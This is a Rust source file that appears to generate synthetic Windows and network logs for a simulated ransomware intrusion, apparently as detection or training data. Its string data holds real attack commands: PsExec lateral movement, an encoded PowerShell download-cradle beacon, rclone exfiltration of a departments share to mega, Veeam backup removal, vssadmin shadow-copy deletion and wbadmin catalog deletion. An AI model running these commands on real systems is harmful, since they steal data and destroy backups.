//! From server to server, and the backups first.

use super::{Attack, Means, POWERSHELL, run};
use crate::evtx::Value::{Number, Text};
use crate::lines::Flow;
use crate::log::{MINUTE, Micros, SECOND};
use crate::scene::{Logon, Process, Proof, Scene};
use crate::shapes;

/// Onto a few servers that they only use: a remote console, a tunnel, data packed and sent away.
pub(super) fn pass_through(
    scene: &mut Scene<'_>,
    attack: &mut Attack,
    shell: &Process,
    start: Micros,
) -> Micros {
    let world = scene.world;
    let mut now = start;
    for (number, server) in attack.passed.clone().into_iter().enumerate() {
        let target = world.machine(server);
        let command = format!("{}PsExec64.exe -accepteula \\\\{} -s cmd", attack.tools.folder, target.host);
        let source = scene.spawn(now, shell, &format!("{}PsExec64.exe", attack.tools.folder), &command);
        scene.connect(now + 200_000, &source, target.ip, &target.full, 445);
        scene.explicit(now + 300_000, &source, attack.admin, server);
        let (remote, _) = reach(scene, attack, server, Means::Service, now + SECOND);
        run(scene, now + MINUTE, &remote, "C:\\Windows\\System32\\whoami.exe", "whoami");
        run(
            scene,
            now + 2 * MINUTE,
            &remote,
            "C:\\Windows\\System32\\net.exe",
            "net localgroup administrators",
        );
        if number == 0 {
            send_away(scene, attack, &remote, now + 5 * MINUTE);
        } else {
            let command = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
            let beacon = scene.spawn(now + 3 * MINUTE, &remote, POWERSHELL, command);
            for beat in 0..24 {
                let time = now + 4 * MINUTE + beat * 5 * MINUTE + scene.dice.between(0, 20 * SECOND);
                scene.connect(time, &beacon, attack.outside, "-", 443);
                let from = target.ip;
                scene.firewall(
                    time,
                    &Flow {
                        from,
                        to: attack.outside,
                        port: 443,
                        service: "SSL",
                        sent: 900,
                        received: 1_400,
                        passed: true,
                    },
                );
            }
        }
        now += scene.dice.between(12 * MINUTE, 30 * MINUTE);
    }
    now
}

/// Data packed, and sent to a cloud with a copying tool.
fn send_away(scene: &mut Scene<'_>, attack: &Attack, remote: &Process, start: Micros) {
    let world = scene.world;
    let folder = attack.tools.folder;
    let from = world.machine(remote.logon.machine).ip;
    let tool = format!("{folder}rclone.exe");
    scene.write_file(start, remote, &tool);
    let command = format!(
        "rclone.exe copy D:\\Departments mega:{} --max-age 2y --transfers 16 --config {folder}r.conf",
        scene.dice.letters(6)
    );
    let copy = run(scene, start + MINUTE, remote, &tool, &command);
    let name = "gfs270n071.userstorage.mega.co.nz";
    scene.dns(start + MINUTE, from, name, &attack.outside.to_string());
    scene.resolve(start + MINUTE, &copy, name, &format!("::ffff:{};", attack.outside));
    for part in 0..40 {
        let time = start + MINUTE + part * 90 * SECOND;
        let sent = 400_000_000 + scene.dice.below(900_000_000);
        let flow = Flow {
            from,
            to: attack.outside,
            port: 443,
            service: "ssl",
            sent,
            received: 900_000,
            passed: true,
        };
        scene.connect(time, &copy, attack.outside, name, 443);
        scene.conn(time, &flow, "SF");
        scene.firewall(time, &flow);
    }
}

/// Onto the backup server: jobs, copies and shadow copies deleted.
pub(super) fn delete_backups(scene: &mut Scene<'_>, attack: &mut Attack, start: Micros) -> Micros {
    let world = scene.world;
    let keeper = world.backups[0];
    let from = world.machine(attack.zero).ip;
    let logon = scene.logon(start, keeper, attack.admin, 10, Some(from), Proof::Ntlm);
    let user = scene.user(&logon);
    scene.log.windows(
        start + SECOND,
        keeper,
        &shapes::SESSION_LOGON,
        &[("User", Text(&user)), ("SessionID", Number(2)), ("Address", Text(&from.to_string()))],
    );
    attack.touch(keeper, start);
    let desktop = scene.running(logon, "C:\\Windows\\explorer.exe");
    let console = scene.spawn(start + MINUTE, &desktop, POWERSHELL, &format!("\"{POWERSHELL}\""));
    let mut now = start + 4 * MINUTE;
    let text = *scene.dice.pick(&[
        "Add-PSSnapin VeeamPSSnapin; Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false; Get-VBRJob | Remove-VBRJob -Confirm:$false",
        "Get-VBRJob | Disable-VBRJob; Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false",
    ]);
    scene.script(now, keeper, text, "");
    now += 3 * MINUTE;
    for (image, command) in [
        ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("C:\\Windows\\System32\\wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
        ("C:\\Windows\\System32\\wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepVersions:0"),
    ] {
        run(scene, now, &console, image, command);
        now += scene.dice.between(20 * SECOND, 2 * MINUTE);
    }
    let system = scene.system(keeper);
    let service = scene.running(system, "C:\\Program Files\\SafeKeep\\SafeKeep.Manager.exe");
    for number in 0..60 {
        let name = format!("E:\\Backups\\set-{number:02}\\increment-{}.vbk", scene.dice.hex(6));
        scene.delete_file(now + number * 3 * SECOND, &service, &name);
    }
    now + 10 * MINUTE
}

/// Runs something on a server from the first machine, by one of the three usual ways, and returns the
/// process that will run the rest there.
pub(super) fn reach(
    scene: &mut Scene<'_>,
    attack: &mut Attack,
    server: u32,
    means: Means,
    now: Micros,
) -> (Process, Logon) {
    let world = scene.world;
    let from = world.machine(attack.zero).ip;
    let to = world.machine(server).ip;
    scene.conn(
        now - SECOND,
        &Flow { from, to, port: 445, service: "smb", sent: 1_900_000, received: 40_000, passed: true },
        "SF",
    );
    let logon = scene.logon(now, server, attack.admin, 3, Some(from), Proof::Ntlm);
    attack.touch(server, now);
    let admin = ("\\\\*\\ADMIN$", "\\??\\C:\\Windows");
    let system = scene.system(server);
    scene.share(now + 400_000, &logon, from, admin.0, admin.1);
    let process = match means {
        Means::Service => {
            let name = attack.tools.service.clone();
            scene.share_file(now + 600_000, &logon, from, admin, &format!("{name}.exe"), true);
            scene.install(now + SECOND, &logon, &name, &format!("%SystemRoot%\\{name}.exe"));
            scene.service_state(now + SECOND + 300_000, server, &name, "running");
            let services = scene.running(system, "C:\\Windows\\System32\\services.exe");
            let image = format!("C:\\Windows\\{name}.exe");
            let carrier = scene.spawn(now + 2 * SECOND, &services, &image, &image);
            scene.pipe(now + 2 * SECOND + 300_000, &carrier, &format!("\\{name}"));
            carrier
        }
        Means::Task => {
            let name = format!("\\{}", scene.dice.letters(8));
            task(scene, &logon, &name, &attack.tools.encryptor, now + SECOND);
            scene.running(system, "C:\\Windows\\System32\\svchost.exe")
        }
        Means::Wmi => scene.running(logon, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"),
    };
    (process, logon)
}

/// A scheduled task made from afar.
fn task(scene: &mut Scene<'_>, logon: &Logon, name: &str, program: &str, now: Micros) {
    let (sid, user) = scene.who(logon);
    let domain = scene.world.short.as_str();
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><RegistrationTrigger><Enabled>true</Enabled></RegistrationTrigger></Triggers><Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"Author\"><Exec><Command>cmd.exe</Command><Arguments>/C {program}</Arguments></Exec></Actions></Task>"
    );
    scene.log.windows(
        now,
        logon.machine,
        &shapes::TASK_CREATED,
        &[
            ("SubjectUserSid", Text(&sid)),
            ("SubjectUserName", Text(&user)),
            ("SubjectDomainName", Text(domain)),
            ("SubjectLogonId", Number(logon.id)),
            ("TaskName", Text(name)),
            ("TaskContent", Text(&content)),
        ],
    );
}
